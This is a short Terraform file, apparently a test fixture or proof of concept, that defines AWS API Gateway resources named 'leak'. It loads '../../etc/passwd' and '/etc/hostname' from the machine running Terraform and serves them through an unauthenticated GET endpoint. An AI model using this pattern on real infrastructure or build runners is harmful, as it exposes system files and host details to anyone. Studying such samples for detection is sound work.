resource "aws_api_gateway_rest_api" "leak" {
  name = "leak"
  body = file("../../etc/passwd")
}

resource "aws_api_gateway_integration" "leak" {
  rest_api_id = aws_api_gateway_rest_api.leak.id
  resource_id = aws_api_gateway_rest_api.leak.root_resource_id
  http_method = "GET"
  type        = "MOCK"

  request_templates = {
    "application/json" = templatefile("/etc/hostname", {})
  }
}

resource "aws_api_gateway_method" "leak" {
  rest_api_id   = aws_api_gateway_rest_api.leak.id
  resource_id   = aws_api_gateway_rest_api.leak.root_resource_id
  http_method   = "GET"
  authorization = "NONE"
}
